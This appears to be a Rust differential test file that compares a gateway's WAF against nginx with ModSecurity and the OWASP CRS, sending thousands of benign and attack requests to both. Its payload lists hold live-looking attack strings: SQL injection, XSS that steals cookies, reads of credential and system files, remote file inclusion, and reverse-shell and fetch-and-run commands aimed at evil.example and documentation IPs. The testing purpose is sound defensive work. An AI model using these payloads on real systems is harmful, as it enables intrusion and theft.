//! The `waf` policy against its reference: nginx with libmodsecurity 3 and the same
//! OWASP CRS (Debian's packages, scripts/test.sh), both at the same paranoia level (1,
//! then 2) with the same allowed methods, both in front of the same backend. Thousands
//! of requests, every CRS attack category in every inspected place and ordinary API
//! traffic, go to both; the WAF must refuse at least 95% of what ModSecurity refuses and
//! at most 2% of what it lets through.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support::*;
use futures_util::StreamExt;
use gatehouse_testkit::nginx::ModSecurityNginx;
use std::fmt::Write as _;

/// The installed CRS (Debian's `modsecurity-crs`, 3.3).
const CRS: &str = "/usr/share/modsecurity-crs/rules";
/// The `waf` policy's default allowed methods, given to ModSecurity as well.
const METHODS: &str = "GET HEAD POST PUT PATCH DELETE OPTIONS";

/// Attack payloads by CRS attack type.
const ATTACKS: &[(&str, &[&str])] = &[
    (
        "sqli",
        &[
            "1' OR '1'='1",
            "1 OR 1=1",
            "' OR 1=1--",
            "admin'--",
            "1; DROP TABLE users",
            "1 UNION SELECT username, password FROM users",
            "1' UNION ALL SELECT NULL,NULL,NULL--",
            "1' AND SLEEP(5)--",
            "1 AND 1=(SELECT COUNT(*) FROM tabname)",
            "'; EXEC xp_cmdshell('dir')--",
            "1' AND extractvalue(1,concat(0x7e,version()))--",
            "1 WAITFOR DELAY '0:0:5'",
            "' or ''='",
            "1' ORDER BY 3--",
            "-1' UNION SELECT 1,@@version--",
            "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64--",
            "x' AND benchmark(10000000,md5(1))#",
            "1 and 1 in (select table_name from information_schema.tables)",
            "';shutdown--",
            "1' or pg_sleep(5)--",
            "\" or \"\"=\"",
            "1/**/union/**/select/**/password/**/from/**/users",
            "1' HAVING 1=1--",
            "1' GROUP BY columnnames having 1=1 --",
        ],
    ),
    (
        "xss",
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(document.domain)>",
            "javascript:alert(document.cookie)",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<body onload=alert('x')>",
            "\"><script>document.location='http://evil.example/?c='+document.cookie</script>",
            "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "'-alert(1)-'",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<embed src=javascript:alert(1)>",
            "<marquee onstart=alert(1)>",
            "<isindex type=image src=1 onerror=alert(1)>",
            "<video><source onerror=\"alert(1)\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        ],
    ),
    (
        "lfi",
        &[
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/shadow",
            "....//....//....//etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "/proc/self/environ",
            "../../../../../../boot.ini",
            "/var/log/apache2/access.log",
            "..;/..;/..;/etc/hosts",
            "file:///etc/passwd",
            "%2e%2e%2f%2e%2e%2fetc%2fgroup",
            ".htaccess",
            "/.ssh/id_rsa",
            "WEB-INF/web.xml",
            "../../.git/config",
        ],
    ),
    (
        "rfi",
        &[
            "http://evil.example/shell.txt?",
            "https://203.0.113.7/inject.php",
            "ftp://evil.example/payload.txt?",
            "http://198.51.100.23/x.txt",
            "http://evil.example/shell.txt%00",
            "include(http://evil.example/a.php)",
            "http://evil.example/x.php??",
            "https://evil.example/rfi.txt?&",
        ],
    ),
    (
        "rce",
        &[
            ";cat /etc/passwd",
            "| id",
            "$(whoami)",
            "`uname -a`",
            "; wget http://evil.example/x -O /tmp/x",
            "& ping -c 10 127.0.0.1 &",
            "|| curl http://evil.example/s.sh | sh",
            "; nc -e /bin/sh 203.0.113.7 4444",
            "cmd.exe /c dir c:\\",
            "powershell -enc SQBFAFgA",
            "; bash -i >& /dev/tcp/203.0.113.7/8080 0>&1",
            "$(cat${IFS}/etc/passwd)",
            "; /bin/ls -la",
            "() { :; }; /bin/cat /etc/passwd",
            "; python -c 'import os;os.system(\"id\")'",
            "| net user hacker pass /add",
            "; chmod 777 /tmp/x",
            "a;perl -e 'print 1'",
        ],
    ),
    (
        "php",
        &[
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "<?= shell_exec('id') ?>",
            "php://input",
            "base64_decode('ZXZhbA==')",
            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            "phpinfo()",
            "$_SERVER['HTTP_HOST']",
            "call_user_func('system','id')",
            "file_get_contents('/etc/passwd')",
            "preg_replace('/.*/e','system(\"id\")','')",
            "expect://id",
        ],
    ),
    (
        "java",
        &[
            "${jndi:ldap://evil.example/a}",
            "java.lang.Runtime.getRuntime().exec(\"id\")",
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "java.lang.ProcessBuilder",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "javax.script.ScriptEngineManager",
            "${jndi:rmi://203.0.113.7:1099/x}",
            "org.apache.commons.collections.functors.InvokerTransformer",
        ],
    ),
    (
        "generic",
        &[
            "require('child_process').exec('id')",
            "process.mainModule.require('child_process')",
            "{\"__proto__\":{\"admin\":true}}",
            "constructor.prototype.polluted=1",
            "this.constructor.constructor('return process')()",
            "new Function('return this')()",
            "{{7*7}}${7*7}",
            "eval(String.fromCharCode(97,108,101,114,116))",
        ],
    ),
    (
        "fixation",
        &[
            "PHPSESSID=attacker123",
            "jsessionid=0123456789ABCDEF",
            "sessionid=abc123def456",
            "ASP.NET_SessionId=abc",
        ],
    ),
];

/// Ordinary values an API sees: names with apostrophes and accents, sentences, ids,
/// dates, e-mail addresses, URLs, numbers, JSON-ish text.
const BENIGN: &[&str] = &[
    "O'Brien",
    "Renée Müller",
    "It's a \"great\" day",
    "Don't forget the milk",
    "john.doe@example.com",
    "2026-11-30T12:00:00Z",
    "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    "https://example.com/products/42?ref=home",
    "42",
    "-17.5",
    "red, green & blue",
    "The quick brown fox jumps over the lazy dog",
    "Please select a size from the list below",
    "Order #1234 shipped to 221B Baker Street",
    "50% off; today only!",
    "C'est la vie",
    "rock'n'roll",
    "user_name",
    "first-name last-name",
    "Hello, world",
    "a+b=c",
    "(555) 123-4567",
    "New York, NY 10001",
    "We're open Mon-Fri, 9am to 5pm",
    "tags: travel, food",
    "Café au lait",
    "Grüße aus Köln",
    "東京都",
    "price < 100 and rating > 4",
    "version 1.2.3",
    "path/to/file.txt",
    "My favourite quote: 'to be or not to be'",
    "I'd like 2 tickets for Friday's show",
    "size=M",
    "Let's meet at Joe's",
    "The user's profile was updated",
    "Can't log in; reset my password please",
    "ABC-123-XYZ",
    "true",
    "null",
    "SELECT-ed items ship free",
    "from Monday to Friday",
    "Union Square, San Francisco",
    "drop-off point: Gate 3",
    "insert coin to continue",
    "update: your order is on its way",
    "script writer & director",
    "<b>bold</b> claims",
    "1 < 2 > 0",
    "Q&A session",
    "email me at jane+news@example.org",
    "#hashtag @mention",
    "€12.50 / £10.80",
    "x=1;y=2",
    "50/50 chance",
    "./relative/path",
    "C:\\Users\\Public",
    "ünïcödé ✓ 🚀",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit",
    "=SUM(A1:A3)",
];

/// One request of the corpus.
struct Case {
    label: String,
    method: &'static str,
    path: String,
    headers: Vec<(&'static str, String)>,
    body: String,
}

/// Percent-encodes all but RFC 3986's unreserved characters.
fn enc(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

/// A JSON string literal.
fn json_str(s: &str) -> String {
    serde_json::Value::String(s.to_string()).to_string()
}

/// XML character data.
fn xml_text(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// `value` placed in each inspected place, labelled `kind/place`.
fn placed(kind: &str, value: &str) -> Vec<Case> {
    let case =
        |place: &str, method, path: String, headers: Vec<(&'static str, String)>, body| Case {
            label: format!("{kind}/{place}: {value}"),
            method,
            path,
            headers,
            body,
        };
    let form = ("content-type", "application/x-www-form-urlencoded".into());
    let json = ("content-type", "application/json".into());
    let xml = ("content-type", "application/xml".into());
    let boundary = "----gatehouse7MA4YWxk";
    let multipart = (
        "content-type",
        format!("multipart/form-data; boundary={boundary}"),
    );
    // Cookie values cannot hold `;`, and header values no control characters.
    let cookie = value.replace(';', ",");
    vec![
        case(
            "query",
            "GET",
            format!("/api/items?q={}&page=2", enc(value)),
            vec![],
            String::new(),
        ),
        case(
            "query-double-encoded",
            "GET",
            format!("/api/items?q={}", enc(&enc(value))),
            vec![],
            String::new(),
        ),
        case(
            "header",
            "GET",
            "/api/items".into(),
            vec![("x-filter", value.replace(['\r', '\n'], " "))],
            String::new(),
        ),
        case(
            "arg-name",
            "GET",
            format!("/api/items?{}=1", enc(value)),
            vec![],
            String::new(),
        ),
        case(
            "path",
            "GET",
            format!("/api/files/{}", enc(value).replace("%2F", "/")),
            vec![],
            String::new(),
        ),
        case(
            "form",
            "POST",
            "/api/items".into(),
            vec![form],
            format!("name=widget&comment={}", enc(value)),
        ),
        case(
            "json",
            "POST",
            "/api/items".into(),
            vec![json.clone()],
            format!(
                "{{\"name\":\"widget\",\"comment\":{},\"count\":3}}",
                json_str(value)
            ),
        ),
        case(
            "json-nested",
            "PUT",
            "/api/items/7".into(),
            vec![json],
            format!(
                "{{\"item\":{{\"tags\":[\"a\",{}]}},\"ok\":true}}",
                json_str(value)
            ),
        ),
        case(
            "xml",
            "POST",
            "/api/items".into(),
            vec![xml],
            format!("<item><comment>{}</comment></item>", xml_text(value)),
        ),
        case(
            "multipart",
            "POST",
            "/api/upload".into(),
            vec![multipart],
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{value}\r\n--{boundary}--\r\n"
            ),
        ),
        case(
            "cookie",
            "GET",
            "/api/items".into(),
            vec![("cookie", format!("theme=dark; pref={cookie}"))],
            String::new(),
        ),
        case(
            "referer",
            "GET",
            "/api/items".into(),
            vec![("referer", format!("https://shop.example/search?q={value}"))],
            String::new(),
        ),
        case(
            "user-agent",
            "GET",
            "/api/items".into(),
            vec![("user-agent", format!("Mozilla/5.0 {value}"))],
            String::new(),
        ),
    ]
}

/// Requests a WAF judges by their method, protocol or headers alone.
fn protocol_cases() -> Vec<Case> {
    let mut v = Vec::new();
    let mut add = |label: &str, method, path: &str, headers: Vec<(&'static str, String)>| {
        v.push(Case {
            label: format!("protocol: {label}"),
            method,
            path: path.into(),
            headers,
            body: String::new(),
        })
    };
    add("TRACE", "TRACE", "/api/items", vec![]);
    add("PROPFIND", "PROPFIND", "/api/items", vec![]);
    add("CONNECT-like method", "DEBUG", "/api/items", vec![]);
    add(
        "range abuse",
        "GET",
        "/api/items",
        vec![("range", "bytes=0-,1-,2-,3-,4-,5-,6-,7-,8-,9-,10-".into())],
    );
    add(
        "content-type charset",
        "GET",
        "/api/items",
        vec![("content-type", "text/plain; charset=utf-7".into())],
    );
    // Restricted headers (CRS 920450) before other headers: every name is checked.
    add(
        "restricted header proxy",
        "GET",
        "/api/items",
        vec![("proxy", "http://10.0.0.1".into()), ("x-trace", "1".into())],
    );
    add(
        "restricted header content-range",
        "GET",
        "/api/items",
        vec![
            ("content-range", "bytes 0-1/2".into()),
            ("x-trace", "1".into()),
        ],
    );
    // A URL argument off the site (CRS 931130 at paranoia level 2 compares it with
    // `%{request_headers.host}`).
    add(
        "off-site URL argument",
        "GET",
        "/api/items?next=https%3A%2F%2Fpartner.example%2Fwelcome",
        vec![],
    );
    add("backup file", "GET", "/backup.sql.bak", vec![]);
    add("env file", "GET", "/.env", vec![]);
    add("php config", "GET", "/config.php~", vec![]);
    add(
        "scanner nikto",
        "GET",
        "/",
        vec![("user-agent", "Mozilla/5.00 (Nikto/2.1.6)".into())],
    );
    add(
        "scanner sqlmap",
        "GET",
        "/",
        vec![(
            "user-agent",
            "sqlmap/1.7#stable (https://sqlmap.org)".into(),
        )],
    );
    add(
        "scanner nmap",
        "GET",
        "/",
        vec![(
            "user-agent",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine)".into(),
        )],
    );
    add(
        "scanner acunetix",
        "GET",
        "/",
        vec![("acunetix-product", "WVS/5.0".into())],
    );
    add(
        "header injection",
        "GET",
        "/api/items?r=%0d%0aSet-Cookie:%20x=1",
        vec![],
    );
    add(
        "response splitting",
        "GET",
        "/api/items?r=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
        vec![],
    );
    add("null byte", "GET", "/api/items?f=a%00.jpg", vec![]);
    add("utf-8 abuse", "GET", "/api/items?f=%C0%AE%C0%AE%2F", vec![]);
    add("bad url encoding", "GET", "/api/items?f=%zz%1", vec![]);
    add(
        "many args",
        "GET",
        &format!(
            "/api/items?{}",
            (0..300)
                .map(|i| format!("a{i}=1"))
                .collect::<Vec<_>>()
                .join("&")
        ),
        vec![],
    );
    add(
        "x-forwarded-host",
        "GET",
        "/",
        vec![("x-forwarded-host", "evil.example".into())],
    );
    add(
        "php session in url",
        "GET",
        "/index.php?PHPSESSID=1234567890abcdef",
        vec![],
    );
    v
}

/// Ordinary API traffic: each benign value in each place, and some whole requests.
fn benign_cases() -> Vec<Case> {
    let mut v: Vec<Case> = BENIGN.iter().flat_map(|b| placed("benign", b)).collect();
    for (i, (a, b)) in BENIGN.iter().zip(BENIGN.iter().skip(7)).enumerate() {
        v.push(Case {
            label: format!("benign/api-json: {a} {b}"),
            method: ["POST", "PUT", "PATCH"][i % 3],
            path: format!("/api/v1/customers/{i}"),
            headers: vec![("content-type", "application/json".into())],
            body: serde_json::json!({
                "name": a, "note": b, "id": i, "active": i % 2 == 0,
                "address": {"street": b, "tags": [a, b]}, "score": 0.5,
            })
            .to_string(),
        });
        v.push(Case {
            label: format!("benign/api-query: {a}"),
            method: ["GET", "DELETE", "HEAD", "OPTIONS"][i % 4],
            path: format!(
                "/api/v1/orders?sort=-created_at&fields=id,total&filter%5Bstatus%5D=open&search={}&limit=20",
                enc(a)
            ),
            headers: vec![("cookie", format!("session=s{i}x9f; lang=en-GB; cart={i}"))],
            body: String::new(),
        });
    }
    v
}

/// The status each side answers `c` with.
async fn status(client: &Client, base: &str, c: &Case) -> u16 {
    let mut b = http::Request::builder()
        .method(c.method)
        .uri(format!("{base}{}", c.path))
        .header("host", "api.example.com")
        .header("accept", "application/json, text/plain, */*")
        .header("accept-language", "en-GB,en;q=0.8");
    if !c.headers.iter().any(|(k, _)| *k == "user-agent") {
        b = b.header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        );
    }
    for (k, v) in &c.headers {
        b = b.header(*k, v.as_str());
    }
    let req = b
        .body(http_body_util::Full::new(bytes::Bytes::from(
            c.body.clone(),
        )))
        .unwrap_or_else(|e| panic!("{}: {e}", c.label));
    client
        .send(req)
        .await
        .unwrap_or_else(|e| panic!("{}: {e}", c.label))
        .status
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn at_paranoia_level_1_the_waf_refuses_and_passes_what_modsecurity_does() {
    differential(1).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn at_paranoia_level_2_the_waf_refuses_and_passes_what_modsecurity_does() {
    differential(2).await;
}

/// The corpus through both at paranoia level `level`, compared.
async fn differential(level: u8) {
    let backend = Backend::start("app", Kind::Echo).await;
    let nginx = ModSecurityNginx::start(backend.addr, std::path::Path::new(CRS), level, METHODS);
    let (_g, gatehouse, _admin) = gateway(&format!(
        r#"
upstreams:
  app: {{ targets: [{{ address: "{}" }}] }}
routes:
  - {{ name: api, policies: [waf], upstream: app, max_body_size: 1MiB }}
policies:
  waf: {{ type: waf, paranoia_level: {level} }}
"#,
        backend.addr
    ));
    let mut cases: Vec<Case> = ATTACKS
        .iter()
        .flat_map(|(kind, payloads)| payloads.iter().flat_map(|p| placed(kind, p)))
        .collect();
    cases.extend(protocol_cases());
    cases.extend(benign_cases());
    let client = Client::new();
    let reference = nginx.base();
    let answers: Vec<(u16, u16)> = futures_util::stream::iter(cases.iter())
        .map(|c| {
            let (client, reference, gatehouse) = (&client, &reference, &gatehouse);
            async move {
                (
                    status(client, reference, c).await,
                    status(client, gatehouse, c).await,
                )
            }
        })
        .buffered(8)
        .collect()
        .await;

    let (mut refused, mut passed) = (Vec::new(), Vec::new());
    let mut odd = Vec::new();
    for (c, &(theirs, ours)) in cases.iter().zip(&answers) {
        match theirs {
            403 => refused.push((c, ours == 403)),
            s if s < 400 => passed.push((c, ours == 403)),
            // Refused by nginx itself (a method it does not proxy): not a WAF verdict.
            _ => odd.push(&c.label),
        }
    }
    let missed: Vec<&str> = refused
        .iter()
        .filter(|(_, ours)| !ours)
        .map(|(c, _)| c.label.as_str())
        .collect();
    let extra: Vec<&str> = passed
        .iter()
        .filter(|(_, ours)| *ours)
        .map(|(c, _)| c.label.as_str())
        .collect();
    let caught = 1.0 - missed.len() as f64 / refused.len().max(1) as f64;
    let false_alarms = extra.len() as f64 / passed.len().max(1) as f64;
    let summary = format!(
        "paranoia level {level}, {} requests: ModSecurity refused {}, passed {}, other {}; the WAF refused {:.1}% of its refusals and {:.2}% of its passes\nmissed (first 40): {:#?}\nextra (first 40): {:#?}",
        cases.len(),
        refused.len(),
        passed.len(),
        odd.len(),
        caught * 100.0,
        false_alarms * 100.0,
        &missed[..missed.len().min(40)],
        &extra[..extra.len().min(40)],
    );
    eprintln!("{summary}");
    assert!(
        cases.len() >= 2000,
        "a corpus of thousands: {}",
        cases.len()
    );
    assert!(
        refused.len() >= 500 && passed.len() >= 500,
        "both verdicts well represented"
    );
    assert!(caught >= 0.95, "{summary}");
    assert!(false_alarms <= 0.02, "{summary}");
}
